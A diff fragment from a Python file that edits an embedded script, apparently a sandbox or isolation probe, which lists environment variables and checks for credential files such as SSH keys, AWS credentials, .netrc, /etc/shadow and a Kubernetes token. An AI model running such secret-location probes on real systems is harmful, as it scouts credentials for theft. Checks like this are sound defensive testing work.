@@ -476,7 +476,7 @@ WORLD = """
 import os, socket, subprocess, urllib.request
 
 print(sorted(os.environ))
-for path in ("~/.netrc", "~/.gitconfig", "~/.aws/credentials", "~/.ssh/id_rsa", "/root/.netrc",
+for path in ("~/.netrc", "~/.gitconfig", "~/.aws/credentials", "~/.ssh/id_rsa", "~/.pypirc",
              "~/.config/gh/hosts.yml", "/run/docker.sock", "/etc/shadow",
              "/var/run/secrets/kubernetes.io/serviceaccount/token"):
     print(path, os.path.exists(os.path.expanduser(path)))
